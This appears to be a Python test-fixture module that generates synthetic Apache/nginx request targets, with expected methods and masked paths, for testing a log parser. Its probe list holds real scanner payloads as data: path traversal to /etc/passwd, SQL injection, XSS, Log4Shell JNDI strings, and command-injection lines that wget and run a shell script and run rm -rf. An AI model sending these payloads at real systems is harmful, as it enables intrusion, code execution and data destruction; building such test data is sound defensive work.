r"""What requests of the field ask for, and what is right of each: its method, and its path as it may be kept.

Texts stand as Apache and nginx log them: bytes that are not printable as `\x16`, quotes as `\"`.

What is right, in words. The method is the first word, if it is a registered one. The path is what stands between
it and the protocol, if it begins with `/` or is `*`, up to the first `?`, `#` or `;`, encoded or not. In a path,
e-mail addresses, tokens (20 letters and digits, 16 hexadecimal digits, a UUID), IP addresses and numbers of nine
digits, encoded or not, or the whole segments that hold them, are replaced; all else stays as it is, up to 1,000
characters. Where that takes thought, a template says what comes out.
"""

from itertools import product
from typing import NamedTuple

from traffic import WORDS

OWN_PATH = "(its own)"
PATH_CHARACTERS = 1000
LONG_CHARACTERS = 2000


class Asked(NamedTuple):
    """A target and what is right of it.

    Attributes:
        target: As logged, without a query that is drawn separately.
        kept: The path as it may be kept, None for none.
        bare: The path as asked for, up to its query, and not masked.
    """

    target: str
    kept: str | None
    bare: str | None


class Odd(NamedTuple):
    """A request that is none of a browser's.

    Attributes:
        before: The method as logged, with the space after it.
        method, path: What is right, None for none.
        weight: How often it comes, among its like.
    """

    before: str
    target: str
    protocol: str
    method: str | None
    path: str | None
    weight: int = 1


def _as_it_is(*targets: str) -> list[Asked]:
    """Return targets of which all is kept up to the query."""
    paths = [target.partition("?")[0] for target in targets]
    return [Asked(target, path, path) for target, path in zip(targets, paths, strict=True)]


def _masked(*pairs: tuple[str, str]) -> list[Asked]:
    """Return targets without query of which something is masked."""
    return [Asked(target, kept, target) for target, kept in pairs]


def _cut(*pairs: tuple[str, str]) -> list[Asked]:
    """Return targets of which the path is the first part."""
    return [Asked(target, path, path) for target, path in pairs]


PROBES_AS_THEY_ARE = r"""
/.env /.git/config /.git/HEAD /.aws/credentials /.ssh/id_rsa /.DS_Store /.vscode/sftp.json /wp-login.php
/xmlrpc.php /wp-admin/setup-config.php /wp-json/wp/v2/users/ /wp-config.php.bak /phpmyadmin/index.php /pma/
/adminer.php /phpinfo.php /info.php /server-status /login.action /actuator/health /actuator/env
/actuator/gateway/routes /solr/admin/info/system?wt=json /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/owa/auth/x.js /ecp/Current/exporttool/ /boaform/admin/formLogin?username=ec8&psd=ec8 /HNAP1/
/GponForm/diag_Form?images/ /setup.cgi?todo=x /manager/html /jenkins/login /_ignition/execute-solution
/telescope/requests /api/jsonws/invoke /console/css/%252e%252e%252fconsole.portal
/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh /%2e%2e/%2e%2e/etc/passwd /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh
/icons/.%%32%65/.%%32%65/etc/passwd /..%252f..%252fetc%252fpasswd /..%2f..%2f..%2f..%2fetc%2fpasswd
/static/..%5c..%5c..%5cwindows%5cwin.ini /..%c0%af..%c0%afetc/passwd /assets/..%2f..%2f..%2fproc/self/environ
/download?file=..%2f..%2f..%2fetc%2fpasswd /../../../../etc/shadow /search/%27%20OR%20%271%27%3D%271
/item/1%27%20UNION%20SELECT%20NULL%2CNULL--%20- /item/1'+or+1=1--+ /news?id=1%27%20AND%20SLEEP(5)%23
/?id=1%20UNION%20ALL%20SELECT%200x3a%2Cversion()%2C0x3a-- /?q='||(select+1)||'
/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E /%3Cscript%3Ealert(1)%3C/script%3E /%3Csvg%2Fonload%3Dalert%281%29%3E
/catalog/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E /tag/%3Ciframe%20src%3Djavascript%3Aalert(1)%3E
/products?filter%5Bname%5D=a&filter%5Bprice%5D%5B%24gt%5D= /products%5B%5D/all /api/%7B%7B7*7%7D%7D
/%7Buser%7D/edit
/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello
/?x=${jndi:ldap://198.51.100.7:1389/a} /%25%7B7*7%7D.action /?a=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D /%61dmin/
/wp-%6cogin.php /%2e%65nv /%41%41%41%41%41%41 /%61%64%6d%69%6e%2e%70%68%70 /%25%36%31dmin
/autodiscover/autodiscover.json?%40zdi/Powershell /remote/fgt_lang?lang=/../../..//////////dev/cmdb/sslvpn
/cgi-bin/ViewLog.asp?cmd=cd+/tmp%3b+wget+http%3a//198.51.100.9/x.sh%3b+sh+x.sh
/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/a /robots.txt /sitemap.xml /ads.txt /favicon.ico
/.well-known/security.txt /apple-app-site-association / // ///admin// /a/./b/../c /% /%% /%zz /%u002e%u002e/
/%E0%80%AF /\x00 /\xC3\xA9\xFF /~root/ /null
"""
PROBES = [
    *_as_it_is(*PROBES_AS_THEY_ARE.split()),
    *_masked(
        ("/reset/9f86d081884c7d659a2feaa0c55ad015", "/reset/{token}"),
        ("/item/1%20AND%20EXTRACTVALUE(1,0x7e7176627a71626b717e)", "/item/{token}"),
        ("/invite/dGhpcyBpcyBub3QgYSBzZWNyZXQ", "/invite/{token}"),
        ("/files/2f5ea-99_aBcDe-01_FgHiJ-23", "/files/{token}"),
        ("/u/root%40example.org/mail", "/u/{email}/mail"),
        ("/u/root%2540example.org", "/u/{email}"),
        ("/u/root@example.org", "/u/{email}"),
        ("/proxy/http://203.0.113.9:8080/x", "/proxy/http://{address}:8080/x"),
        ("/geoip/198.51.100.77", "/geoip/{address}"),
        ("/geoip/2001%3Adb8%3A%3A77", "/geoip/{address}"),
        ("/%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D", "/%24%7Bjndi:ldap:%2F%2F{address}:1389%2Fa%7D"),
        ("/call/+49-170-1234567", "/call/+{number}"),
        ("/q/%31%39%32.0.2.1", "/q/{address}"),
    ),
    *_cut(
        ("/cgi-bin/luci/;stok=/locale?form=country&operation=write", "/cgi-bin/luci/"),
        ("/login;jsessionid=0123456789abcdef", "/login"),
        ("/page%3Fid=1%27", "/page"),
        ("/page%253fid%253d1", "/page"),
        ("/%24%7B%28%23a%3D1%29%7D/", "/%24%7B%28"),
        ("/a%23b", "/a"),
        ("/a%3bb/c", "/a"),
        ("/index.php#top", "/index.php"),
    ),
]

# Of each, hundreds of distinct targets are made, and what is kept of them; None for all
DIRTY_TEMPLATES = (
    ("/search/{a}%5B{b}%5D", None),
    ("/filter/{a}%3D{b}/page/{n}", None),
    ("/tag/{A}%26{b}/%7B{n}%7D", None),
    ("/files/..%2f{a}%5c..%5c{b}.txt", None),
    ("/w/%{x}{b}_{a}", None),
    ("/user/{a}.{b}%40example.org/inbox", "/user/{{email}}/inbox"),
    ("/user/{b}@{a}.example.com", "/user/{{email}}"),
    ("/net/198.51.100.{n}/{a}", "/net/{{address}}/{a}"),
    ("/share/{a}-0123456789abcdef-{b}", "/share/{{token}}"),
    ("/order/{a}/2026-05-0{d}-4711{d}", "/order/{a}/{{number}}"),
)
FEW_DIRTY = [
    *_as_it_is(*(f"/collections/{word}%5Bsale%5D/colour%3D{word[::-1]}" for word in WORDS[:12])),
    *_as_it_is("/caf%C3%A9/men%C3%BC", "/list%5B0%5D", "/m%65nu", "/a%2Bb/%7Bpage%7D", "/themes/%5Bslug%5D.js"),
    *_masked(("/newsletter/news%40example.net", "/newsletter/{email}"), ("/ping/192.0.2.1", "/ping/{address}")),
]
ODDITIES = (
    Odd("CONNECT ", "www.example.org:443", " HTTP/1.1", "CONNECT", None, 10),
    Odd("CONNECT ", "198.51.100.20:25", " HTTP/1.0", "CONNECT", None, 6),
    Odd("OPTIONS ", "*", " HTTP/1.0", "OPTIONS", "*", 14),
    Odd("PRI ", "*", " HTTP/2.0", "PRI", "*", 6),
    Odd("PROPFIND ", "/", " HTTP/1.1", "PROPFIND", "/", 4),
    Odd("TRACE ", "/", " HTTP/1.1", "TRACE", "/"),
    Odd("TRACK ", "/", " HTTP/1.1", None, "/"),
    Odd("DEBUG ", "/", " HTTP/1.1", None, "/", 2),
    Odd("BREW ", "/pot-1", " HTTP/1.1", None, "/pot-1"),
    Odd("GETX ", "/index.html", " HTTP/1.1", None, "/index.html"),
    Odd("get ", "/index.html", " HTTP/1.1", None, None, 4),
    Odd("Get ", "/", " HTTP/1.1", None, None, 2),
    Odd("post ", "/cgi-bin/x.cgi?a=1", " HTTP/1.1", None, None, 2),
    Odd("SSTP_DUPLEX_POST ", "/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/", " HTTP/1.1", None, None, 2),
    Odd("OPTIONS ", "sip:nm", " SIP/2.0", "OPTIONS", None, 2),
    Odd("GET ", "/index.html", "", "GET", "/index.html", 2),
    Odd("GET ", "/my file.pdf", " HTTP/1.1", "GET", "/my%20file.pdf", 2),
    Odd("GET ", r"http://example.org/proxy?test=\"1\"", " HTTP/1.1", "GET", "/proxy", 4),
    Odd("GET ", "https://user@example.org:8443/x%5By%5D", " HTTP/1.1", "GET", "/x%5By%5D", 2),
    Odd("GET ", "http://example.org", " HTTP/1.1", "GET", None, 2),
    Odd("GET ", r"/search/\"blue shoes\"?a=\"b\"", " HTTP/1.1", "GET", r"/search/\"blue%20shoes\"", 4),
    Odd("GET ", r"/a\"b/c\\d", " HTTP/1.1", "GET", r"/a\"b/c\\d", 4),
    Odd("GET ", r"/\xE2\x80\x9Cquoted\xE2\x80\x9D", " HTTP/1.1", "GET", r"/\xE2\x80\x9Cquoted\xE2\x80\x9D", 2),
    Odd("POST ", "index.php", " HTTP/1.1", "POST", None),
    Odd("GET", "", "", "GET", None),
    Odd("", "-", "", None, None, 12),
    Odd("", "", "", None, None, 4),
    Odd("", r"\n", "", None, None),
    Odd("", "quit", "", None, None),
    Odd("", "t3 12.1.2", "", None, None),
    Odd("", "MGLNDD_192.0.2.10_443", "", None, None, 4),
    Odd("", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", "", None, None, 6),
    Odd("", r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", "", None, None, 12),
    *(
        Odd(
            "",
            rf"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x{n:02X}{word}\x13\x02\xC0+\\\xC00\"",
            "",
            None,
            None,
        )
        for n, word in enumerate(WORDS)
    ),
)


def _long_paths() -> list[Asked]:
    """Return 80 paths of about 2,000 characters; every other one has encoded signs in it."""
    asked = []
    for n in range(80):
        words = [WORDS[(n + k * (1 + n % 7)) % len(WORDS)] for k in range(400)]
        path = "".join(f"/{word}" if n % 2 or k % 5 else f"/%5B{word}%5D" for k, word in enumerate(words))
        path = path[: LONG_CHARACTERS - n]
        asked.append(Asked(path, path[:PATH_CHARACTERS], path))
    return asked


def _many_dirty() -> list[Asked]:
    """Return thousands of targets, nearly all distinct, each of which has to be looked at or masked."""
    pairs = list(product(WORDS, WORDS))
    asked = []
    for n, (target, kept) in enumerate(DIRTY_TEMPLATES):
        for k, (a, b) in enumerate(pairs[n::2]):
            values = {"a": a, "A": a.capitalize(), "b": b, "n": k % 250, "d": k % 9 + 1, "x": f"{ord(b[0]):02x}"}
            path = target.format(**values)
            asked.append(Asked(path, kept.format(**values) if kept else path, path))
    return asked


def _guesses() -> list[Asked]:
    """Return what scanners take from their lists of words."""
    ends = (
        "",
        "/",
        ".php",
        ".bak",
        ".zip",
        ".tar.gz",
        "/.env",
        "/wp-login.php",
        "%20.txt",
        ".php~",
        "/%2e%2e/",
        "%2f",
    )
    plugins = [f"/wp-content/plugins/{a}-{b}/readme.txt" for a, b in product(WORDS, WORDS[::3])]
    return _as_it_is(*(f"/{word}{end}" for word, end in product(WORDS, ends)), *plugins)


def _assets() -> list[str]:
    return [
        f"/static/{n % 7}.{n % 31}/{kind}/{a}-{b}.{n * 2654435761 % 2**28:07x}.{kind}"
        for n, (kind, a, b) in enumerate(product(("js", "css", "woff2"), WORDS, WORDS[:20]))
    ]


def _images() -> list[str]:
    return [
        f"/media/catalog/product/{a[0]}/{b[0]}/{a}_{b}_{n % 4}.jpg"
        for n, (a, b) in enumerate(product(WORDS * 4, WORDS * 2))
    ]


def _pages() -> list[str]:
    return [
        *("/", *(f"/category/{a}/{b}" for a, b in product(WORDS, WORDS))),
        *(f"/product/{a}-{b}-{n}" for n, (a, b) in enumerate(product(WORDS, WORDS * 10))),
    ]


def _calls() -> list[str]:
    return [
        *("/healthz", "/api/v2/cart", "/api/v2/session", "/api/v2/recommendations", "/graphql"),
        *("/rest/V1/carts/mine/totals", *(f"/api/v2/products/{n}" for n in range(20_000))),
        *(f"/api/v2/{a}/{b}/availability" for a, b in product(WORDS, WORDS)),
    ]


POOLS: dict[str, list[Asked]] = {
    "page": _as_it_is(*_pages()),
    "asset": _as_it_is(*_assets()),
    "image": _as_it_is(*_images()),
    "call": _as_it_is(*_calls()),
    "few_dirty": FEW_DIRTY,
    "many_dirty": _many_dirty(),
    "order": _as_it_is("/api/v2/orders/{token}/items"),
    "account": _as_it_is("/rest/V1/customers/{number}"),
    "own": _as_it_is(OWN_PATH),
    "long": _long_paths(),
    "probe": PROBES,
    "guess": _guesses(),
}
"""What a request draws its target from; those of `order`, `account` and `own` it makes."""

TARGETS = [
    *(asked for pool in POOLS.values() for asked in pool),
    *(Asked(odd.target, odd.path, odd.path and odd.path.replace("%20", " ")) for odd in ODDITIES),
]
